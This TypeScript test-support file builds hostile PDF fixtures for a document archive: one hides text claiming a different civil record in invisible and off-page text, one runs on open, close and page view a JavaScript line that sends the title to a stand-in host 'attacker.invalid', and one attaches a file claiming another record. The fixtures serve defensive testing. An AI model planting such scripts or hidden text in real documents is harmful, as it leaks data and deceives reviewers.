/**
 * PDFs built to mislead or attack a reader that trusts more than what a page shows: text a
 * viewer never draws, scripts, attachments and form fields. Each is a born-digital paper of
 * the sample catalogue (see make-test-scans.ts) with the hostile part added.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import fontkit from '@pdf-lib/fontkit';
import {
  PDFArray,
  PDFDocument,
  PDFName,
  PDFString,
  popGraphicsState,
  pushGraphicsState,
  setTextRenderingMode,
  TextRenderingMode,
} from 'pdf-lib';
import { DEJAVU_DIR, makeTextLayerPdf, samplePaper, type TestPaper } from '#test/support/make-test-scans.ts';

/** The script every scripted PDF carries, to look for in what the archive keeps. */
export const HOSTILE_SCRIPT = "app.launchURL('https://attacker.invalid/?leak=' + this.info.Title, true);";

/** Name of the file attached by {@link makeAttachmentPdf}. */
export const ATTACHMENT_NAME = 'ho-so-bo-sung.txt';

/** Name of the text field added by {@link makeAttachmentPdf}. */
export const FORM_FIELD_NAME = 'ghi_chu';

/** Lines another paper would show: its title, then its owner ID after the catalogue's label. */
export function claimedLines(paper: TestPaper): string[] {
  return [paper.title, `Số định danh cá nhân: ${paper.ownerId}`];
}

/**
 * A paper that shows `visible` (by default the birth certificate) and whose text layer also
 * claims `claimed` (by default the judicial record: its title and owner ID), written before
 * the visible text so that a reader of the text layer meets it first: once in invisible text
 * (render mode 3) on the page, once in ordinary text placed outside the MediaBox.
 */
export async function makeHiddenTextPdf(
  visible: TestPaper = samplePaper('KS'),
  claimed: TestPaper = samplePaper('LLTP'),
): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makeTextLayerPdf(visible));
  document.registerFontkit(fontkit);
  const font = await document.embedFont(await readFile(join(DEJAVU_DIR, 'DejaVuSerif.ttf')), {
    subset: true,
  });
  const page = document.getPage(0);
  const { width, height } = page.getSize();
  const lines = claimedLines(claimed);
  page.pushOperators(pushGraphicsState(), setTextRenderingMode(TextRenderingMode.Invisible));
  lines.forEach((text, index) => {
    page.drawText(text, { x: 60, y: height - 36 - index * 16, size: 14, font });
  });
  page.pushOperators(popGraphicsState());
  lines.forEach((text, index) => {
    page.drawText(text, { x: width + 120, y: height - 36 - index * 16, size: 14, font });
  });
  const contents = page.node.Contents();
  if (!(contents instanceof PDFArray)) throw new Error('pdf-lib left the page with a single content stream');
  const hidden = contents.get(contents.size() - 1);
  contents.remove(contents.size() - 1);
  contents.insert(0, hidden);
  return document.save({ useObjectStreams: false });
}

/**
 * A paper (by default the building permit) that runs {@link HOSTILE_SCRIPT} when opened
 * (catalog /OpenAction), when closed (catalog /AA /WC) and when its page opens (page /AA /O).
 */
export async function makeScriptedPdf(paper: TestPaper = samplePaper('GPXD')): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makeTextLayerPdf(paper));
  const script = () =>
    document.context.register(
      document.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(HOSTILE_SCRIPT) }),
    );
  document.catalog.set(PDFName.of('OpenAction'), script());
  document.catalog.set(PDFName.of('AA'), document.context.obj({ WC: script() }));
  document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: script() }));
  return document.save({ useObjectStreams: false });
}

/**
 * A paper (by default the marital-status certificate) with an attached file that claims
 * another paper (/Names /EmbeddedFiles) and an AcroForm text field on its page.
 */
export async function makeAttachmentPdf(
  paper: TestPaper = samplePaper('TTHN'),
  claimed: TestPaper = samplePaper('LLTP'),
): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makeTextLayerPdf(paper));
  await document.attach(new TextEncoder().encode(claimedLines(claimed).join('\n')), ATTACHMENT_NAME, {
    mimeType: 'text/plain',
    description: 'Hồ sơ bổ sung',
  });
  const field = document.getForm().createTextField(FORM_FIELD_NAME);
  field.setText('Ban sao');
  field.addToPage(document.getPage(0), { x: 400, y: 40, width: 140, height: 20, borderWidth: 0 });
  return document.save({ useObjectStreams: false });
}
